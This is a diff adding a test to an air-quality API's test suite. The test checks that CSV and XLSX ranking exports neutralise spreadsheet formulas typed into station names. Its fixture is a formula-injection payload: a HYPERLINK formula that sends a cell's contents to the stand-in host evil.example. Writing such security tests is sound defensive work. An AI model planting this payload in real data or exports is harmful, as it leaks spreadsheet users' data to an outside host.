@@ -4,6 +4,7 @@ computable official values — with permission and data-scope denials."""
 from __future__ import annotations
 
 import asyncio
+import csv
 import io
 from datetime import date, timedelta
 from typing import Any
@@ -338,3 +339,38 @@ async def test_a_period_before_any_standard_is_bad_input(
     body = await _get(client, f"{path}?by=aqi&period=day&day=1994-02-28", "admin", seeded, 400)
     assert body["error"]["code"] == "bad_parameter"
     assert "没有适用的评价标准" in body["error"]["message"]
+
+
+#: A station name an attacker could type, and what a spreadsheet would do with it.
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
+
+
+async def test_exports_neutralise_spreadsheet_formulas(
+    client: TestClient, seeded: Seed, analytics: date
+) -> None:
+    """Issue 16, finding 5: user-typed text that starts like a formula is exported as text
+    (CSV: a leading apostrophe; XLSX: a text cell holding exactly what was typed)."""
+    from openpyxl import load_workbook
+
+    from store.db import connect
+
+    conn = await connect(seeded.dsn)
+    try:
+        await conn.execute(
+            "UPDATE stations SET name = $1 WHERE id = $2", FORMULA_NAME, seeded.stations["good"]
+        )
+    finally:
+        await conn.close()
+    day = analytics.isoformat()
+    path = f"/api/v1/rankings/export?period=day&day={day}"
+    resp = await client.get(path + "&format=csv", headers=seeded.auth("officer"))
+    assert resp.status == 200, await resp.text()
+    rows = list(csv.reader(io.StringIO((await resp.read()).decode("utf-8-sig"))))
+    names = [cell for row in rows for cell in row if "HYPERLINK" in cell]
+    assert names == ["'" + FORMULA_NAME]
+    resp = await client.get(path + "&format=xlsx", headers=seeded.auth("officer"))
+    book = load_workbook(io.BytesIO(await resp.read()))
+    sheet = book.active
+    assert sheet is not None
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA_NAME]
+    assert cells and all(c.data_type == "s" for c in cells)
